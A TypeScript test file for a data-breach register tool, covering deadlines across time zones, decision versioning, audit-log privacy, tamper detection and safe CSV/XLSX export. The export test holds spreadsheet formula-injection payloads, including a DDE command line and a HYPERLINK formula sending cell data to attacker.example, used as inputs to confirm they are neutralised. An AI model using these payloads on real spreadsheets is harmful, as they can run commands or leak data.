/**
 * The register of breaches attacked (issue 23): odd times (offsets, a DST change, a leap day, the
 * last minute before the deadline and the first second after it), decisions written over one
 * another, texts too long for a spreadsheet cell or written to run as formulas, a row edited by
 * hand in the state store, texts kept out of the audit log, the register's times in the project's
 * time zone and in words in French.
 */
import { readFileSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BreachView } from '../src/app/breaches.js';
import { type Context, createEngine, type Engine } from '../src/app/engine.js';
import { USE_CASES } from '../src/app/use-cases.js';
import { formatBreaches, formatBreachRecorded } from '../src/cli/format/breaches.js';
import { shop } from './shop-helpers.js';

const DPO: Context = { actor: 'test:dpo' };
const BASE = {
  kinds: ['confidentiality' as const],
  nature: 'Une sauvegarde de la table des paiements a été exposée.',
  records: ['payments'],
  categories: ['payment-card'],
  consequences: 'Risque de fraude à la carte.',
  measures: 'Serveur fermé.',
};

describe('the register of breaches, attacked', () => {
  let out: string;
  let config: string;
  let engine: Engine;
  let now = new Date('2026-12-06T12:00:00Z');
  const at = (iso: string) => {
    now = new Date(iso);
  };
  const record = async (input: Record<string, unknown>): Promise<BreachView> =>
    USE_CASES.recordBreach.run(engine, { ...BASE, ...input } as never, DPO);

  beforeAll(async () => {
    ({ out, config } = await shop(40, 3));
    engine = createEngine({ config, clock: { now: () => now, today: () => now.toISOString().slice(0, 10) } });
  }, 120_000);

  afterAll(async () => {
    await engine?.close();
    if (out) rmSync(out, { recursive: true, force: true });
  });

  it('the deadline is 72 hours of real time whatever the offset, the DST change or the leap day', async () => {
    at('2026-12-06T12:00:00Z');
    // The same instant written at +14:00 and at -12:00: one deadline.
    const east = await record({ discoveredAt: '2026-12-06T08:00:00+14:00' });
    const west = await record({ discoveredAt: '2026-12-05T06:00:00-12:00' });
    expect(east.deadline).toBe('2026-12-08T18:00:00.000Z');
    expect(west.deadline).toBe(east.deadline);
    // Europe/Paris goes to summer time on 2026-03-29 at 02:00: 72 hours after 01:30 (UTC+1) are
    // 02:30 (UTC+2) on 1 April, not 01:30.
    at('2026-04-02T00:00:00Z');
    const dst = await record({ discoveredAt: '2026-03-29T01:30:00+01:00' });
    expect(dst.deadline).toBe('2026-04-01T00:30:00.000Z');
    at('2028-03-01T00:00:00Z');
    const leap = await record({ discoveredAt: '2028-02-29T12:00:00Z' });
    expect(leap.deadline).toBe('2028-03-03T12:00:00.000Z');
  });

  it('shows the last minute before the deadline as left, the first second after it as passed', async () => {
    at('2026-12-06T12:00:00Z');
    const breach = await record({ discoveredAt: '2026-12-06T11:00:00Z' });
    // 71 h 59 min after the discovery: one minute left, not "0 h left".
    at('2026-12-09T10:59:00Z');
    let [view] = (await USE_CASES.listBreaches.run(engine, {}, DPO)).filter((b) => b.id === breach.id);
    expect(view?.status).toBe('to-decide');
    expect(formatBreaches([view as BreachView])).toContain('(1 min left)');
    // 72 h 00 min 01 s after: overdue, by a second, not "1 h ago".
    at('2026-12-09T11:00:01Z');
    [view] = (await USE_CASES.listBreaches.run(engine, {}, DPO)).filter((b) => b.id === breach.id);
    expect(view?.status).toBe('overdue');
    expect(formatBreaches([view as BreachView])).toContain('(less than a minute ago)');
    at('2026-12-06T12:00:00Z');
    const fresh = await record({ discoveredAt: '2026-12-06T10:30:00Z' });
    expect(formatBreachRecorded(fresh)).toContain('(70 h 30 min left)');
  });

  it('refuses times in the wrong order, and people counts that cannot be', async () => {
    at('2026-12-06T12:00:00Z');
    const cases: [Record<string, unknown>, string][] = [
      [{ discoveredAt: '2026-12-05T10:00:00Z', occurredAt: '2026-12-05T12:00:00+01:00' }, 'occurredAt'],
      [{ discoveredAt: '2026-12-06T13:00:00+01:00:00' }, 'discoveredAt'],
      [{ discoveredAt: '2026-12-05T10:00:00Z', people: -1 }, 'people'],
      [{ discoveredAt: '2026-12-05T10:00:00Z', people: 1.5 }, 'people'],
      [{ discoveredAt: '2026-12-05T10:00:00Z', people: 1e11 }, 'people'],
      [{ discoveredAt: '2026-12-05T10:00:00Z', records: ['Payments'] }, 'records'],
      [{ discoveredAt: '2026-12-05T10:00:00Z', categories: ['Payment-Card'] }, 'categories'],
    ];
    for (const [input, path] of cases)
      await expect(record(input), JSON.stringify(input)).rejects.toMatchObject({ path: [path] });
  });

  it('data processed for the distributors is theirs to notify: refused by name, left out of a count by category', async () => {
    at('2026-12-06T12:00:00Z');
    const base = { discoveredAt: '2026-12-05T10:00:00Z', records: [], categories: [] };
    for (const [input, path] of [
      [{ ...base, activities: ['distributor-sales'] }, 'activities'],
      [{ ...base, records: ['distributor_orders'] }, 'records'],
      [{ ...base, rules: ['supplier-disputes'] }, 'rules'],
    ] as const) {
      const refused = record(input);
      await expect(refused, JSON.stringify(input)).rejects.toMatchObject({
        code: 'E_BREACH_SCOPE',
        path: [path],
      });
      await expect(refused).rejects.toThrow(/art\. 33\(2\)/);
    }
    // Contact details alone: wherever NEGOMARKETS is the controller, never the distributors' orders.
    const contact = await record({ ...base, categories: ['contact-details'] });
    const tables = contact.affected.tables.map((t) => t.table);
    expect(tables).toContain('customers');
    expect(tables).not.toContain('distributor_orders');
  });

  it('refuses a text a spreadsheet cell cannot hold (32,767 characters)', async () => {
    at('2026-12-06T12:00:00Z');
    const long = 'x'.repeat(40_000);
    for (const field of ['nature', 'consequences', 'measures'])
      await expect(record({ discoveredAt: '2026-12-05T10:00:00Z', [field]: long })).rejects.toMatchObject({
        code: 'E_USAGE',
        path: [field],
      });
    await expect(
      record({ discoveredAt: '2026-12-05T10:00:00Z', nature: { fr: long, en: 'short' } }),
    ).rejects.toMatchObject({ code: 'E_USAGE', path: ['nature', 'fr'] });
  });

  it('does not write a second decision over the first unless the version read is given', async () => {
    at('2026-12-06T12:00:00Z');
    const breach = await record({ discoveredAt: '2026-12-05T10:00:00Z' });
    const first = await USE_CASES.decideBreach.run(
      engine,
      { id: breach.id, notify: true, notifiedAt: '2026-12-05T18:00:00Z', reference: 'CNIL-1' },
      DPO,
    );
    expect(first.status).toBe('notified');
    // Another operator, in a hurry, decides without having read the first decision.
    await expect(
      USE_CASES.decideBreach.run(engine, { id: breach.id, notify: false, reason: 'no risk' }, DPO),
    ).rejects.toMatchObject({ code: 'E_USAGE', path: ['version'] });
    expect((await USE_CASES.showBreach.run(engine, { id: breach.id }, DPO)).notification).toMatchObject({
      decision: 'notify',
      reference: 'CNIL-1',
    });
    // Read first: the change is deliberate.
    const changed = await USE_CASES.decideBreach.run(
      engine,
      { id: breach.id, notify: true, notifiedAt: '2026-12-05T18:00:00Z', reference: 'CNIL-2', version: 1 },
      DPO,
    );
    expect(changed.notification).toMatchObject({ reference: 'CNIL-2' });
    // The same for telling the people.
    await USE_CASES.informBreach.run(engine, { id: breach.id, inform: true }, DPO);
    await expect(
      USE_CASES.informBreach.run(engine, { id: breach.id, inform: false, reason: 'no high risk' }, DPO),
    ).rejects.toMatchObject({ code: 'E_USAGE', path: ['version'] });
  });

  it('exports texts written as formulas as text, in the CSV and in the XLSX', async () => {
    at('2026-12-06T12:00:00Z');
    const breach = await record({
      discoveredAt: '2026-12-05T10:00:00Z',
      consequences: "=cmd|' /C calc'!A0",
      measures: '=HYPERLINK("http://attacker.example/?x="&A1,"clic")',
    });
    await USE_CASES.decideBreach.run(engine, { id: breach.id, notify: false, reason: '+1+1' }, DPO);
    await USE_CASES.informBreach.run(engine, { id: breach.id, inform: false, reason: '@SUM(1)' }, DPO);
    const csv = String((await USE_CASES.exportBreachRegister.run(engine, { format: 'csv' }, DPO)).content);
    for (const cell of csv.split(/[;\r\n]+/).map((c) => c.replace(/^"|"$/g, '')))
      expect(cell, cell).not.toMatch(/^[=+\-@]/);
    expect(csv).toContain("'=cmd|");
    const xlsx = (await USE_CASES.exportBreachRegister.run(engine, { format: 'xlsx' }, DPO))
      .content as Buffer;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]?.eachRow((row) => {
      row.eachCell((c) => {
        cells.push(c);
      });
    });
    const formulaLike = cells.filter((c) => /^[=+@]/.test(String(c.value)));
    expect(formulaLike.length).toBeGreaterThanOrEqual(3);
    for (const c of cells) expect(c.type, String(c.value)).not.toBe(ExcelJS.ValueType.Formula);
  });

  it('prints the times of the register in the time zone of the project, in words in French', async () => {
    at('2026-12-06T12:00:00Z');
    // 23:30 UTC is 00:30 on the next day in Paris: the letter says the day the people lived.
    const late = await record({ discoveredAt: '2026-12-05T23:30:00Z', occurredAt: '2026-12-05T22:00:00Z' });
    const shown = await USE_CASES.showBreach.run(engine, { id: late.id }, DPO);
    expect(shown.letters.fr.text).toContain('le 6 décembre 2026.');
    expect(shown.letters.en.text).toContain('on 6 December 2026.');
    const fr = String((await USE_CASES.exportBreachRegister.run(engine, { format: 'csv' }, DPO)).content);
    const row = fr.split('\r\n').find((l) => l.startsWith(`${late.id};`)) ?? '';
    expect(row).toContain('5 décembre 2026 à 23 h 00');
    expect(row).toContain('6 décembre 2026 à 0 h 30');
    expect(row).toContain('avant le 9 décembre 2026 à 0 h 30');
    expect(fr).not.toMatch(/\d{4}-\d{2}-\d{2}/);
    expect(fr).toContain('Europe/Paris');
    const en = String(
      (await USE_CASES.exportBreachRegister.run(engine, { format: 'csv', lang: 'en' }, DPO)).content,
    );
    expect(en).toContain('6 December 2026, 00:30');
    expect(en).not.toMatch(/\d{4}-\d{2}-\d{2}/);
  });

  it('keeps personal data out of the audit log: texts as a keyed hash only', async () => {
    at('2026-12-06T12:00:00Z');
    const email = 'jeanne.victime@example.org';
    const breach = await record({
      discoveredAt: '2026-12-05T10:00:00Z',
      nature: `Un courriel à ${email} contenait le fichier.`,
      consequences: `Hameçonnage possible de ${email}.`,
    });
    await USE_CASES.decideBreach.run(
      engine,
      { id: breach.id, notify: false, reason: `seul ${email} touché` },
      DPO,
    );
    const log = String(await USE_CASES.exportAudit.run(engine, {}, DPO));
    expect(log).toContain(`"breach":${breach.id}`);
    expect(log).not.toContain('jeanne');
  });

  it('a row put back as it was before a decision, or deleted, is found by audit verify', async () => {
    at('2026-12-06T12:00:00Z');
    const breach = await record({ discoveredAt: '2026-12-05T10:00:00Z' });
    await USE_CASES.decideBreach.run(engine, { id: breach.id, notify: false, reason: 'pas de risque' }, DPO);
    const file = join(dirname(config), '.registre', 'state.sqlite');
    const rowOf = () => {
      const db = new Database(file, { readonly: true });
      try {
        return db.prepare('SELECT * FROM breaches WHERE id = ?').get(breach.id) as Record<string, unknown>;
      } finally {
        db.close();
      }
    };
    const put = (row: Record<string, unknown> | null) => {
      const db = new Database(file);
      try {
        db.prepare('DELETE FROM breaches WHERE id = ?').run(breach.id);
        if (row)
          db.prepare(
            `INSERT INTO breaches (${Object.keys(row).join(', ')}) VALUES (${Object.keys(row)
              .map(() => '?')
              .join(', ')})`,
          ).run(...Object.values(row));
      } finally {
        db.close();
      }
    };
    const problems = async () =>
      (await USE_CASES.verifyAudit.run(engine, {}, DPO)).problems.map((p) => p.message).join('\n');
    expect(await problems()).toBe('');
    const before = rowOf();
    // The DPO then decides to notify after all, with the version read.
    await USE_CASES.decideBreach.run(
      engine,
      { id: breach.id, notify: true, notifiedAt: '2026-12-06T11:00:00Z', reference: 'CNIL-9', version: 1 },
      DPO,
    );
    const after = rowOf();
    await engine.close();
    // Someone with write access to the state store puts the row back as it was (its own seal).
    put(before);
    engine = createEngine({ config, clock: { now: () => now, today: () => now.toISOString().slice(0, 10) } });
    expect(await problems()).toContain(
      `breach ${breach.id} is at version 1 in the table, 2 in the log: a decision was undone by putting an older row back`,
    );
    await engine.close();
    put(null);
    engine = createEngine({ config, clock: { now: () => now, today: () => now.toISOString().slice(0, 10) } });
    expect(await problems()).toMatch(
      new RegExp(`breach ${breach.id} of entry \\d+ is missing from the breaches table`),
    );
    await engine.close();
    put(after);
    engine = createEngine({ config, clock: { now: () => now, today: () => now.toISOString().slice(0, 10) } });
    expect(await problems()).toBe('');
  });

  it('a row edited by hand in the state store is caught by its seal', async () => {
    at('2026-12-06T12:00:00Z');
    const breach = await record({ discoveredAt: '2026-12-05T10:00:00Z' });
    await engine.close();
    expect(readFileSync(config, 'utf8')).toContain('url: sqlite:.registre/state.sqlite');
    const db = new Database(join(dirname(config), '.registre', 'state.sqlite'));
    try {
      const row = db.prepare('SELECT body FROM breaches WHERE id = ?').get(breach.id) as { body: string };
      const body = JSON.parse(row.body) as { peopleEstimate: number | null };
      body.peopleEstimate = 0;
      db.prepare('UPDATE breaches SET body = ? WHERE id = ?').run(JSON.stringify(body), breach.id);
    } finally {
      db.close();
    }
    engine = createEngine({ config, clock: { now: () => now, today: () => now.toISOString().slice(0, 10) } });
    await expect(USE_CASES.showBreach.run(engine, { id: breach.id }, DPO)).rejects.toMatchObject({
      code: 'E_STATE_TAMPERED',
    });
    await expect(USE_CASES.listBreaches.run(engine, {}, DPO)).rejects.toMatchObject({
      code: 'E_STATE_TAMPERED',
    });
  });
});
